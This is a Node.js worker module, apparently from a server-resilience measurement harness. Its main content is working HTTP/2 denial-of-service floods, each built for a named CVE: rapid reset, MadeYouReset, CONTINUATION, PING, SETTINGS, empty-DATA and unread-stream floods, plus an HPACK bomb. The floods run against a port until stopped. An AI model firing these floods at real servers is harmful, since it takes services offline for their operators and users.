// HTTP/2 floods, run in a thread of their own so that whoever measures is not slowed by them.

import { isMainThread, parentPort, workerData } from 'node:worker_threads';

import * as h2 from './frames.mjs';

const CONNECTIONS = 4;
const { frame, head, header, number } = h2;

const stream = (round) => 2 * round + 1;
const both = h2.END_STREAM | h2.END_HEADERS;

/** Each is one round of an attack; a function of a port, so that heads can be made once. */
export const FLOODS = {
  'rapid reset (CVE-2023-44487)': (port) => {
    const request = head(port);
    return (write, n) => write(frame(h2.HEADERS, both, stream(n), request), frame(h2.RST_STREAM, 0, stream(n), number(8)));
  },
  // An update of 0 is a stream error: the server resets the stream, and may go on working on it.
  'MadeYouReset (CVE-2025-8671)': (port) => {
    const request = head(port);
    return (write, n) => write(frame(h2.HEADERS, both, stream(n), request), frame(h2.WINDOW_UPDATE, 0, stream(n), number(0)));
  },
  'CONTINUATION without end (CVE-2024-27316)': (port) => {
    const [request, more] = [head(port), Buffer.concat(Array.from({ length: 100 }, (_, i) => header(`x-${i}`, 'y'.repeat(100))))];
    return (write, n) => (n === 0 ? write(frame(h2.HEADERS, h2.END_STREAM, 1, request)) : write(frame(h2.CONTINUATION, 0, 1, more)));
  },
  'PING (CVE-2019-9512)': () => (write) => write(...Array.from({ length: 20 }, () => frame(h2.PING, 0, 0, Buffer.alloc(8)))),
  'SETTINGS (CVE-2019-9515)': () => (write) => write(...Array.from({ length: 20 }, () => frame(h2.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))),
  'empty DATA (CVE-2019-9518)': (port) => {
    const request = head(port, 'POST', '/anything');
    return (write, n) => (n === 0 ? write(frame(h2.HEADERS, h2.END_HEADERS, 1, request)) : write(...Array.from({ length: 20 }, () => frame(h2.DATA, 0, 1))));
  },
  'HPACK bomb (CVE-2016-6581)': (port) => {
    // One long header enters the dynamic table, and each further byte names it again: 62 is its newest entry.
    const first = Buffer.concat([head(port), header('x-bomb', 'z'.repeat(3900), true), Buffer.alloc(8000, 0x80 | 62)]);
    const later = Buffer.concat([head(port), Buffer.alloc(8000, 0x80 | 62)]);
    return (write, n) => write(frame(h2.HEADERS, both, stream(n), n === 0 ? first : later));
  },
  'streams that nobody reads (CVE-2019-9517)': (port) => {
    const request = head(port);
    return (write, n) => (n === 0 ? write(frame(h2.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))) : write(frame(h2.HEADERS, both, stream(n), request)));
  },
};

if (!isMainThread) {
  const { port, name } = workerData;
  let stopped = false;
  parentPort.once('message', () => (stopped = true));
  const attack = async () => {
    let [rounds, connections] = [0, 0];
    while (!stopped) {
      rounds += await h2.assault(port, FLOODS[name](port), () => stopped);
      connections += 1;
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    return { rounds, connections };
  };
  const made = await Promise.all(Array.from({ length: CONNECTIONS }, attack));
  const sum = (of) => made.reduce((total, each) => total + each[of], 0);
  parentPort.postMessage({ rounds: sum('rounds'), connections: sum('connections') });
}
